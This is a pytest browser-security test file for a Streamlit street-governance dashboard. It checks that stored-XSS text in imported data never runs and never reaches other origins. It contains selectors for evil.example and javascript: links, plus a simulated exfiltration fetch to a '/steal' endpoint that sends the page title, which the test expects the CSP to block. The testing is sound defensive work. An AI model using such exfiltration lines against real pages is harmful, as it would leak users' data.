"""A street whose every imported text carries script, in a real browser: nothing runs, nothing leaves.

Every page for every role is opened in Debian's Chromium (grid tooltips hovered, where
the stored XSS used to fire); a dialog (``alert``) or a request to another origin fails
the test. The Content-Security-Policy is checked on its own too: a script that did get
into the map's frame could not send anything to another origin.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests import browserkit, hostile

pytestmark = pytest.mark.browser

browserkit.require_browser()

MAP = "iframe[title='streamlit_folium.st_folium']"
SHOWN_MAP = browserkit.SHOWN_MAP
ALL = ["总览", "诉求热力图", "四级服务矩阵", "网格办结率", "考核排名与红黑榜", "研判预警"]
# 研判预警's sections with a map (预警 is first, without), and a text only that section shows
ANALYSIS_SECTIONS = {"热点": "分析单元", "新兴热点": "分类别检验", "重复诉求": "距离（米）"}
PAGES = {
    "leader": [*ALL, "部门考核"],
    "sec": ALL,
    "head": ["我的网格", *ALL],
    "liaison": ["总览", "诉求热力图", "网格办结率", "考核排名与红黑榜", "部门考核"],
    "admin": [*ALL, "数据导入", "用户与审计"],
}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    street = hostile.build(tmp_path_factory.mktemp("hostile") / "street.duckdb")
    with browserkit.running_server(Path(street)) as url:
        yield url


@pytest.fixture(scope="module")
def browser(chromium: object) -> object:
    return chromium


def _settle(page) -> None:
    page.wait_for_selector("[data-testid=stStatusWidget]", state="detached", timeout=60_000)


def _hover_map(page) -> None:
    """Move over the map where the grids are, so every tooltip under the pointer is drawn."""
    box = None
    for _ in range(40):  # a rerun may hide the frame between finding it and measuring it: look again
        _settle(page)
        frame = page.locator(SHOWN_MAP).first
        frame.wait_for(timeout=60_000)
        frame.content_frame.locator(".leaflet-container").wait_for(timeout=60_000)
        box = frame.bounding_box()
        if box is not None:
            break
        page.wait_for_timeout(250)
    assert box is not None, "the page's map never stayed shown long enough to be measured"
    for fx, fy in ((0.5, 0.5), (0.3, 0.3), (0.7, 0.7), (0.3, 0.7), (0.7, 0.3)):
        page.mouse.move(box["x"] + box["width"] * fx, box["y"] + box["height"] * fy)
        page.wait_for_timeout(150)


@pytest.mark.parametrize("role", list(PAGES))
def test_no_imported_text_runs_on_any_page(server: str, browser, role: str) -> None:
    context, outside = browserkit.new_context(browser)
    dialogs: list[str] = []
    page = context.new_page()
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    browserkit.log_in(page, server, role)
    for name in PAGES[role]:
        page.locator("[data-testid=stSidebarNav]").get_by_role("link", name=name).click()
        page.wait_for_selector(f"h1:has-text('{name}')", timeout=60_000)
        _settle(page)
        if name == "总览":  # the flow chart (plotly) names communities and departments
            page.get_by_role("tab", name="三级联动流向").click()
            page.locator("[data-testid=stPlotlyChart] .sankey").first.wait_for(state="attached", timeout=60_000)
            labels = page.locator("[data-testid=stPlotlyChart] .node-label").evaluate_all(
                "els => els.map(e => e.textContent || '')"
            )
            assert any("<" in label or "[" in label for label in labels), labels  # shown as written
            page.get_by_role("tab", name="待办清单").click()  # the case lists: residents' texts
            page.get_by_role("tab", name="最久未办结").wait_for(timeout=60_000)
            _settle(page)
        for section in ANALYSIS_SECTIONS if name == "研判预警" else ("",):
            if section:
                chooser = page.locator("[data-testid=stButtonGroup]").first
                chooser.get_by_role("radio", name=section, exact=True).click()
                page.get_by_text(ANALYSIS_SECTIONS[section], exact=True).first.wait_for(timeout=60_000)
                _settle(page)
            if page.locator(SHOWN_MAP).count():
                _hover_map(page)
                tips = page.locator(SHOWN_MAP).first.content_frame.locator(".leaflet-tooltip").all_inner_texts()
                if tips:  # the hostile name is shown as the text it is
                    assert "<" in tips[0] or "[" in tips[0], tips
                frame = page.locator(SHOWN_MAP).first.content_frame
                names = frame.locator(".gp-grid-label").evaluate_all("els => els.map(e => e.textContent || '')")
                if names:  # the grid names on the map: text, no element made from them
                    assert any("<" in n for n in names), names
                    assert frame.locator(".gp-grid-label span *").count() == 0
            assert page.locator("[data-testid=stException]").count() == 0, (role, name, section)
        assert page.locator("[data-testid=stException]").count() == 0, (role, name)
        # No link or image from the data: the only links are the app's own navigation.
        body = page.locator("[data-testid=stMain]")
        assert body.locator("a[href*='evil.example'], a[href^='javascript:'], img[src*='evil.example']").count() == 0
    browserkit.ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(browserkit.ARTIFACTS / f"hostile-{role}.png"), full_page=True)
    assert dialogs == []
    assert outside == []
    context.close()


def test_the_map_frame_may_not_talk_to_another_origin(server: str, browser) -> None:
    """Even if escaping failed, a script in the map's frame could send nothing elsewhere."""
    context, outside = browserkit.new_context(browser)
    page = context.new_page()
    browserkit.log_in(page, server, "head")
    page.get_by_role("link", name="诉求热力图").click()
    page.locator(MAP).first.wait_for(timeout=60_000)
    _settle(page)
    verdict = browserkit.eval_in_map(
        page,
        """() => new Promise(done => {
            document.addEventListener('securitypolicyviolation', e => done('blocked:' + e.violatedDirective));
            fetch('http://127.0.0.2:9/steal?who=' + encodeURIComponent(parent.document.title)).catch(() => {});
            setTimeout(() => done('not blocked'), 5000);
        })""",
        until=lambda v: isinstance(v, str),
        tries=20,
    )
    assert verdict.startswith("blocked:connect-src")
    assert outside == []
    context.close()
